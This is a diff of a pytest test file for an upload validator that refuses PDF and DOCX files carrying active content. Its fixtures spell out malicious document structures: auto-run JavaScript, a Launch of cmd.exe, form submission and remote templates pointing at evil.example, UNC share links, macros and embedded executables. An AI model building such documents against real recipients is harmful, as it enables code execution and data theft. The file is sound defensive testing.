@@ -1,5 +1,6 @@
 """File types: a PDF or DOCX that would run something when staff open it is refused with a reason;
 plain documents, links included, are accepted."""
+
 from __future__ import annotations
 
 import random
@@ -27,32 +28,59 @@ def verdict(kind: str, content: bytes, tmp_path) -> str:
     return "accepted"
 
 
-@pytest.mark.parametrize("content", [
-    pdf(), pdf(compress_content=False), pdf("Ada Lovelace, engineer"),
-    # What LaTeX and Word write: a destination to open at, links to the web, an outline.
-    pdf(catalog=b"/OpenAction[3 0 R/Fit]/PageMode/UseOutlines"),
-    pdf(page=b"/Annots[5 0 R]", extra=[b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
-                                       b"/A<</S/URI/URI(https://github.com/ada)>>>>"]),
-    pdf(object_stream=[b"<</Title(Curriculum vitae)/Producer(pdfTeX-1.40.25)>>"]),
-], ids=["compressed", "uncompressed", "text", "open-at-destination", "web-link", "object-stream"])
+@pytest.mark.parametrize(
+    "content",
+    [
+        pdf(),
+        pdf(compress_content=False),
+        pdf("Ada Lovelace, engineer"),
+        # What LaTeX and Word write: a destination to open at, links to the web, an outline.
+        pdf(catalog=b"/OpenAction[3 0 R/Fit]/PageMode/UseOutlines"),
+        pdf(
+            page=b"/Annots[5 0 R]",
+            extra=[b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://github.com/ada)>>>>"],
+        ),
+        pdf(object_stream=[b"<</Title(Curriculum vitae)/Producer(pdfTeX-1.40.25)>>"]),
+    ],
+    ids=["compressed", "uncompressed", "text", "open-at-destination", "web-link", "object-stream"],
+)
 def test_plain_pdfs_are_accepted(tmp_path, content):
     assert verdict("pdf", content, tmp_path) == "accepted"
 
 
-@pytest.mark.parametrize("content, says", [
-    (pdf(catalog=b"/OpenAction" + JS_ACTION), "scripts"),
-    (pdf(catalog=b"/Names<</JavaScript<</Names[(init)" + JS_ACTION + b"]>>>>"), "scripts"),
-    (pdf(extra=[b"<</Type/Action/JS(app.alert(1))>>"]), "scripts"),
-    (pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "starts a program"),
-    (pdf(catalog=b"/Names<</EmbeddedFiles 5 0 R>>",
-         extra=[b"<</Type/EmbeddedFile/Length 4>>\nstream\nMZ\x90\x00\nendstream"]), "attached files"),
-    (pdf(page=b"/Annots[5 0 R]", extra=[b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"]), "embedded media"),
-    (pdf(page=b"/AA<</O<</S/URI/URI(https://tracker.example/open)>>>>"), "run automatically"),
-    (pdf(catalog=b"/AcroForm<</Fields[]/XFA 5 0 R>>", extra=[b"<</Length 0>>\nstream\n\nendstream"]), "XFA"),
-    (pdf(catalog=b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"), "sends data"),
-    (pdf(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"), "open other files"),
-], ids=["openaction-javascript", "names-javascript", "js", "launch", "embedded-file", "richmedia", "aa",
-        "xfa", "submitform", "gotor"])
+@pytest.mark.parametrize(
+    "content, says",
+    [
+        (pdf(catalog=b"/OpenAction" + JS_ACTION), "scripts"),
+        (pdf(catalog=b"/Names<</JavaScript<</Names[(init)" + JS_ACTION + b"]>>>>"), "scripts"),
+        (pdf(extra=[b"<</Type/Action/JS(app.alert(1))>>"]), "scripts"),
+        (pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "starts a program"),
+        (
+            pdf(
+                catalog=b"/Names<</EmbeddedFiles 5 0 R>>",
+                extra=[b"<</Type/EmbeddedFile/Length 4>>\nstream\nMZ\x90\x00\nendstream"],
+            ),
+            "attached files",
+        ),
+        (pdf(page=b"/Annots[5 0 R]", extra=[b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>"]), "embedded media"),
+        (pdf(page=b"/AA<</O<</S/URI/URI(https://tracker.example/open)>>>>"), "run automatically"),
+        (pdf(catalog=b"/AcroForm<</Fields[]/XFA 5 0 R>>", extra=[b"<</Length 0>>\nstream\n\nendstream"]), "XFA"),
+        (pdf(catalog=b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"), "sends data"),
+        (pdf(catalog=b"/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\x.pdf)/D[0/Fit]>>"), "open other files"),
+    ],
+    ids=[
+        "openaction-javascript",
+        "names-javascript",
+        "js",
+        "launch",
+        "embedded-file",
+        "richmedia",
+        "aa",
+        "xfa",
+        "submitform",
+        "gotor",
+    ],
+)
 def test_pdf_with_active_content_is_refused_saying_what_it_contains(tmp_path, content, says):
     message = verdict("pdf", content, tmp_path)
     assert says in message and "Export or print it to a new PDF" in message
@@ -72,16 +100,26 @@ def test_pdf_script_inside_a_compressed_object_stream_is_refused(tmp_path):
 
 def test_pdf_script_compressed_twice_is_refused(tmp_path):
     inner = zlib.compress(zlib.compress(b"6 0 " + JS_ACTION))
-    content = pdf(catalog=b"/OpenAction 6 0 R", extra=[
-        b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n" % len(inner)
-        + inner + b"\nendstream"])
+    content = pdf(
+        catalog=b"/OpenAction 6 0 R",
+        extra=[
+            b"<</Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]/Length %d>>\nstream\n" % len(inner)
+            + inner
+            + b"\nendstream"
+        ],
+    )
     assert "scripts" in verdict("pdf", content, tmp_path)
 
 
 def test_pdf_whose_objects_hide_behind_an_unchecked_encoding_or_encryption_is_refused(tmp_path):
     hexed = (b"6 0 " + JS_ACTION).hex().encode() + b">"
-    content = pdf(extra=[b"<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/Length %d>>\nstream\n" % len(hexed)
-                         + hexed + b"\nendstream"])
+    content = pdf(
+        extra=[
+            b"<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode/Length %d>>\nstream\n" % len(hexed)
+            + hexed
+            + b"\nendstream"
+        ]
+    )
     assert "cannot be checked" in verdict("pdf", content, tmp_path)
     encrypted = pdf(catalog=b"/Encrypt 5 0 R", extra=[b"<</Filter/Standard/V 2/R 3/Length 128>>"])
     assert "password-protected or encrypted" in verdict("pdf", encrypted, tmp_path)
@@ -91,9 +129,12 @@ def test_short_names_inside_image_data_do_not_refuse_a_pdf(tmp_path):
     # JPEG bytes are random-looking; "/JS " or "/AA>" turn up in them by chance and mean nothing there.
     noise = bytearray(random.Random(7).randbytes(64 * 1024))
     for at, name in ((1000, b"/JS "), (20000, b"/AA>"), (40000, b"/RL]")):
-        noise[at:at + len(name)] = name
-    image = (b"<</Type/XObject/Subtype/Image/Width 64/Height 64/Filter/DCTDecode/Length %d>>\nstream\n"
-             % len(noise) + bytes(noise) + b"\nendstream")
+        noise[at : at + len(name)] = name
+    image = (
+        b"<</Type/XObject/Subtype/Image/Width 64/Height 64/Filter/DCTDecode/Length %d>>\nstream\n" % len(noise)
+        + bytes(noise)
+        + b"\nendstream"
+    )
     assert verdict("pdf", pdf(extra=[image]), tmp_path) == "accepted"
 
 
@@ -106,45 +147,93 @@ def test_a_pdf_that_inflates_beyond_the_bound_is_refused_not_half_read(tmp_path,
     assert "too large or complex to check" in verdict("pdf", content, tmp_path)
 
 
-@pytest.mark.parametrize("content", [
-    docx(),
-    docx("Ada Lovelace", relationships=[
-        relationship("rId7", "hyperlink", "https://www.linkedin.com/in/ada", external=True),
-        relationship("rId8", "hyperlink", "mailto:ada@example.com", external=True),
-        relationship("rId9", "styles", "styles.xml"),
-    ]),
-], ids=["plain", "web-and-mail-links"])
+@pytest.mark.parametrize(
+    "content",
+    [
+        docx(),
+        docx(
+            "Ada Lovelace",
+            relationships=[
+                relationship("rId7", "hyperlink", "https://www.linkedin.com/in/ada", external=True),
+                relationship("rId8", "hyperlink", "mailto:ada@example.com", external=True),
+                relationship("rId9", "styles", "styles.xml"),
+            ],
+        ),
+    ],
+    ids=["plain", "web-and-mail-links"],
+)
 def test_plain_docx_is_accepted(tmp_path, content):
     assert verdict("docx", content, tmp_path) == "accepted"
 
 
-@pytest.mark.parametrize("content, says", [
-    (docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "macros"),
-    (docx(main=MACRO_MAIN), "macros"),
-    (docx(parts={"word/vbaData.xml": b"<wne:vbaSuppData/>"}), "macros"),
-    (docx(settings_relationships=[relationship("rId1", "attachedTemplate", "https://evil.example/t.dotm",
-                                               external=True)]), "loads content from elsewhere"),
-    (docx(settings_relationships=[relationship("rId1", "attachedTemplate", "\\\\evil.example\\share\\t.dotm",
-                                               external=True)]), "loads content from elsewhere"),
-    (docx(relationships=[relationship("rId5", "image", "http://tracker.example/p.png", external=True)]),
-     "loads content from elsewhere"),
-    (docx(relationships=[relationship("rId5", "hyperlink", "file:///C:/Windows/System32/calc.exe",
-                                      external=True)]), "network share"),
-    (docx(relationships=[relationship("rId5", "hyperlink", "\\\\evil.example\\share\\cv.docx",
-                                      external=True)]), "network share"),
-    (docx(relationships=[relationship("rId5", "oleObject", "embeddings/oleObject1.bin")],
-          parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "ActiveX or OLE"),
-    (docx(parts={"word/activeX/activeX1.xml": b"<ax:ocx/>"}), "ActiveX or OLE"),
-], ids=["vbaproject", "macro-content-type", "vbadata", "remote-template", "unc-template", "remote-image",
-        "file-link", "unc-link", "ole-object", "activex"])
+@pytest.mark.parametrize(
+    "content, says",
+    [
+        (docx(parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}), "macros"),
+        (docx(main=MACRO_MAIN), "macros"),
+        (docx(parts={"word/vbaData.xml": b"<wne:vbaSuppData/>"}), "macros"),
+        (
+            docx(
+                settings_relationships=[
+                    relationship("rId1", "attachedTemplate", "https://evil.example/t.dotm", external=True)
+                ]
+            ),
+            "loads content from elsewhere",
+        ),
+        (
+            docx(
+                settings_relationships=[
+                    relationship("rId1", "attachedTemplate", "\\\\evil.example\\share\\t.dotm", external=True)
+                ]
+            ),
+            "loads content from elsewhere",
+        ),
+        (
+            docx(relationships=[relationship("rId5", "image", "http://tracker.example/p.png", external=True)]),
+            "loads content from elsewhere",
+        ),
+        (
+            docx(
+                relationships=[relationship("rId5", "hyperlink", "file:///C:/Windows/System32/calc.exe", external=True)]
+            ),
+            "network share",
+        ),
+        (
+            docx(relationships=[relationship("rId5", "hyperlink", "\\\\evil.example\\share\\cv.docx", external=True)]),
+            "network share",
+        ),
+        (
+            docx(
+                relationships=[relationship("rId5", "oleObject", "embeddings/oleObject1.bin")],
+                parts={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
+            ),
+            "ActiveX or OLE",
+        ),
+        (docx(parts={"word/activeX/activeX1.xml": b"<ax:ocx/>"}), "ActiveX or OLE"),
+    ],
+    ids=[
+        "vbaproject",
+        "macro-content-type",
+        "vbadata",
+        "remote-template",
+        "unc-template",
+        "remote-image",
+        "file-link",
+        "unc-link",
+        "ole-object",
+        "activex",
+    ],
+)
 def test_docx_with_active_content_is_refused_saying_what_it_contains(tmp_path, content, says):
     assert says in verdict("docx", content, tmp_path)
 
 
 def test_docx_relationships_are_read_as_xml_not_as_text(tmp_path):
     # "&#69;xternal" is "External" to Word; a text search for the word would miss it.
-    rel = ('<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-           'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/>')
+    rel = (
+        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="&#69;xternal"/>'
+    )
     assert "loads content from elsewhere" in verdict("docx", docx(settings_relationships=[rel]), tmp_path)
     doctype = docx(parts={"word/_rels/footer.xml.rels": b'<!DOCTYPE r [<!ENTITY x "y">]><Relationships/>'})
     assert "not a Word (.docx) document" in verdict("docx", doctype, tmp_path)
@@ -165,8 +254,16 @@ def test_a_capability_registers_a_new_type_without_touching_the_others(tmp_path)
         if b"\t" in path.read_bytes():
             raise UploadRejected("Use spaces.")
 
-    register(FileType(name="test-text", label="text", extensions=(".txt",), content_types=("text/plain",),
-                      check_structure=lambda path: None, check_active_content=refuse_tabs))
+    register(
+        FileType(
+            name="test-text",
+            label="text",
+            extensions=(".txt",),
+            content_types=("text/plain",),
+            check_structure=lambda path: None,
+            check_active_content=refuse_tabs,
+        )
+    )
     try:
         assert type_for("notes.txt", ("pdf", "test-text")).content_type == "text/plain"
         assert allowed_text(("pdf", "docx", "test-text")) == "PDF, Word (.docx) or text"
@@ -204,8 +301,7 @@ def escaped_name(draw, name: str) -> bytes:
 
 @st.composite
 def generated_pdf(draw):
-    objects = [template % draw(WORDS).encode() for template in
-               draw(st.lists(st.sampled_from(PDF_BENIGN), max_size=4))]
+    objects = [template % draw(WORDS).encode() for template in draw(st.lists(st.sampled_from(PDF_BENIGN), max_size=4))]
     active = draw(st.none() | st.sampled_from(PDF_ACTIVE))
     says = None
     if active is not None:
@@ -218,8 +314,12 @@ def generated_pdf(draw):
             template = template.replace(b"{" + name.encode() + b"}", escaped)
         objects.insert(draw(st.integers(0, len(objects))), template)
     in_stream = draw(st.booleans())
-    content = pdf(draw(WORDS), compress_content=draw(st.booleans()),
-                  extra=[] if in_stream else objects, object_stream=objects if in_stream else [])
+    content = pdf(
+        draw(WORDS),
+        compress_content=draw(st.booleans()),
+        extra=[] if in_stream else objects,
+        object_stream=objects if in_stream else [],
+    )
     return content, says
 
 
@@ -237,10 +337,14 @@ def test_generated_pdfs_are_refused_exactly_when_they_carry_active_content(tmp_p
 DOCX_ACTIVE = [
     (dict(parts={"word/vbaProject.bin": b"x"}), "macros"),
     (dict(main=MACRO_MAIN), "macros"),
-    (dict(settings_relationships=[relationship("rId1", "attachedTemplate", "https://t.example/a.dotm", True)]),
-     "loads content from elsewhere"),
-    (dict(relationships=[relationship("rId90", "image", "https://t.example/p.png", True)]),
-     "loads content from elsewhere"),
+    (
+        dict(settings_relationships=[relationship("rId1", "attachedTemplate", "https://t.example/a.dotm", True)]),
+        "loads content from elsewhere",
+    ),
+    (
+        dict(relationships=[relationship("rId90", "image", "https://t.example/p.png", True)]),
+        "loads content from elsewhere",
+    ),
     (dict(relationships=[relationship("rId90", "hyperlink", "file://server/share/x", True)]), "network share"),
     (dict(relationships=[relationship("rId90", "oleObject", "embeddings/oleObject1.bin")]), "ActiveX or OLE"),
 ]
@@ -248,8 +352,10 @@ DOCX_ACTIVE = [
 
 @st.composite
 def generated_docx(draw):
-    links = [relationship(f"rId{index}", "hyperlink", f"https://example.com/{index}", external=True)
-             for index in range(draw(st.integers(0, 3)))]
+    links = [
+        relationship(f"rId{index}", "hyperlink", f"https://example.com/{index}", external=True)
+        for index in range(draw(st.integers(0, 3)))
+    ]
     active = draw(st.none() | st.sampled_from(DOCX_ACTIVE))
     options, says = active if active is not None else ({}, None)
     options = dict(options)
@@ -271,9 +377,14 @@ def test_generated_docx_are_refused_exactly_when_they_carry_active_content(tmp_p
 def test_a_cv_whose_text_mentions_html_js_is_accepted(tmp_path):
     """Running text like "HTML/JS/CSS" or "Node/JS developer" is not a script key."""
     content = b"BT /F1 12 Tf (Skills: HTML/JS/CSS, Node/JS developer) Tj ET"
-    body = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
-            b"2 0 obj<</Length " + str(len(content)).encode() + b">>stream\n" + content +
-            b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
+    body = (
+        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
+        b"2 0 obj<</Length "
+        + str(len(content)).encode()
+        + b">>stream\n"
+        + content
+        + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+    )
     path = tmp_path / "cv.pdf"
     path.write_bytes(body)
     FILE_TYPES["pdf"].check_structure(path)
